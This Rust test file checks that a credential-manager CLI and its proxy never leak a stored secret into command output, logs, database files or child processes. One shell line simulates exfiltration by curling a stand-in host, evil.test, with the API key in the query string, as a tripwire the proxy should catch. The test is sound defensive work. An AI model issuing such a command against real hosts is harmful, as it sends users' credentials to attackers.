//! The canary sweep: store a unique secret, run every command, and check the
//! secret (and its base64 / URL-encoded / JSON-escaped forms) appears nowhere
//! except `export`'s stdout: not in any other output, not in stderr, not in
//! the SQLite file, its WAL or shared-memory file.

use base64::Engine;

use crate::common::{Out, TestHome, canary};

fn forms(secret: &str) -> Vec<String> {
    let b = base64::engine::general_purpose::STANDARD;
    let u = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    vec![
        secret.to_string(),
        b.encode(secret),
        u.encode(secret),
        b.encode(format!("{secret}:")),
        secret.replace('_', "%5F"),
        serde_json::to_string(secret).unwrap(),
        // a distinctive middle slice, in case of partial leaks
        secret[4..secret.len() - 4].to_string(),
    ]
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p))
        } else if p.is_file() {
            // (not run.sock: a socket has no bytes to sweep)
            out.push(p)
        }
    }
    out
}

fn assert_clean(label: &str, haystack: &[u8], secret: &str) {
    for f in forms(secret) {
        assert!(
            !haystack.windows(f.len()).any(|w| w == f.as_bytes()),
            "{label} contains the secret (form {f:?})"
        );
    }
}

#[test]
fn secret_appears_only_in_export_stdout() {
    let h = TestHome::new();
    let secret = canary("AKCANARY_");
    // Keep a reader open so SQLite cannot checkpoint away the WAL between commands:
    // the sweep must see the WAL as the commands left it.
    let mut outputs: Vec<Out> = Vec::new();
    outputs.push(
        h.cmd(["login", "ahrefs", "--with-api-key", "--verbose"])
            .env("AUTHSOME_LOG", "trace")
            .stdin(&secret)
            .run()
            .success(),
    );
    let reader = rusqlite::Connection::open(h.path("vault.db")).unwrap();
    reader
        .execute_batch("BEGIN; SELECT count(*) FROM connections;")
        .unwrap();
    let cmds: &[&[&str]] = &[
        &["list"],
        &["list", "--json"],
        &["whoami"],
        &["whoami", "--json"],
        &["doctor"],
        &["doctor", "--json"],
        &["provider", "list"],
        &["provider", "show", "ahrefs"],
        &["provider", "show", "ahrefs", "--json"],
        &["set-default", "ahrefs", "default"],
        &["login", "ahrefs", "--with-api-key", "-c", "second"],
        &["logout", "ahrefs", "-c", "second"],
        &["log"],
        &["log", "--json"],
        &["dashboard", "--no-browser"],
        &["dashboard", "--no-browser", "--json"],
        &["daemon", "status", "--json"],
        &["daemon", "logs"],
    ];
    for args in cmds {
        let mut c = h.cmd(args.iter().copied()).env("AUTHSOME_LOG", "trace");
        if args.contains(&"--with-api-key") {
            c = c.stdin(&canary("AKCANARY_"));
        }
        outputs.push(c.run().success());
    }
    // failures must not echo it either
    outputs.push(
        h.cmd(["login", "ahrefs", "--with-api-key"])
            .stdin(&secret)
            .run()
            .code(6),
    );
    outputs.push(
        h.cmd(["login", "openai", "--with-api-key"])
            .stdin(&format!("{secret} trailing"))
            .run()
            .code(4),
    );
    let export = h.cmd(["export", "ahrefs", "--verbose"]).run().success();
    assert!(
        export.stdout.contains(&secret),
        "export must print the secret"
    );
    assert_clean("export stderr", export.stderr.as_bytes(), &secret);
    for o in &outputs {
        assert_clean(
            &format!("stdout of `{}`", o.args.join(" ")),
            o.stdout.as_bytes(),
            &secret,
        );
        assert_clean(
            &format!("stderr of `{}`", o.args.join(" ")),
            o.stderr.as_bytes(),
            &secret,
        );
    }
    let files = walk(&h.home);
    for p in &files {
        let bytes = std::fs::read(p).unwrap();
        assert_clean(&p.display().to_string(), &bytes, &secret);
    }
    assert!(
        h.path("vault.db-wal").exists(),
        "the WAL should be on disk for the sweep"
    );
    let log = std::fs::read_to_string(h.path("logs/authsome.log")).unwrap();
    assert!(
        log.contains("TRACE") || log.contains("DEBUG"),
        "the daemon should have logged at trace level:\n{log}"
    );
    assert!(
        files.len() >= 6,
        "vault.db, -wal, master.key, identity.key, daemon.json, the log: {files:?}"
    );
    drop(reader);
}

/// The proxy's side of the sweep: with the daemon logging at trace level,
/// traffic through `authsome run` (a credential injected, echoed back in
/// headers and bodies, a refusal, a tripwire, a blind tunnel) leaves no
/// form of the secret in any file under the home (the request log, the
/// daemon's log, the vault and its WAL), in the request or audit logs as
/// the CLI shows them, or in anything the child saw.
#[test]
fn the_proxy_path_leaves_no_secret_behind() {
    let lab = crate::common::lab::Lab::new();
    lab.cmd(["daemon", "restart"])
        .env("AUTHSOME_LOG", "trace")
        .run()
        .success();
    let child = lab
        .run_sh(
            "curl -sS -D - \"$URL/echo/header\"; curl -sS \"$URL/v1/x?q=1\"; \
             curl -sS \"$URL/echo/sse\"; curl -sS --compressed \"$URL/echo/gzip\"; \
             curl -sS \"http://api.acme.test:$UP/refused\"; \
             curl -sS \"http://evil.test:$HTTP_UP/t?k=$ACME_API_KEY\"; \
             curl -sS -k -o /dev/null \"https://upstream.test:$UP/blind\"; echo",
        )
        .success();
    let mut outputs = vec![child];
    for args in [
        &["log", "--requests"][..],
        &["log", "--requests", "--json"],
        &["log", "--json"],
        &["daemon", "logs"],
    ] {
        outputs.push(lab.cmd(args.iter().copied()).run().success());
    }
    for o in &outputs {
        let label = o.args.join(" ");
        assert_clean(
            &format!("stdout of `{label}`"),
            o.stdout.as_bytes(),
            &lab.key,
        );
        assert_clean(
            &format!("stderr of `{label}`"),
            o.stderr.as_bytes(),
            &lab.key,
        );
    }
    // The request log has the traffic (so the sweep below looked at it).
    assert!(
        outputs[2].stdout.contains("/echo/header"),
        "{}",
        outputs[2].stdout
    );
    let files = walk(lab.home.dir.path());
    assert!(
        files.iter().any(|p| p.ends_with("logs/requests.jsonl")),
        "{files:?}"
    );
    for p in &files {
        let bytes = std::fs::read(p).unwrap();
        assert_clean(&p.display().to_string(), &bytes, &lab.key);
    }
    let log = std::fs::read_to_string(lab.home.path("logs/authsome.log")).unwrap();
    assert!(log.contains("TRACE") || log.contains("DEBUG"), "{log}");
}
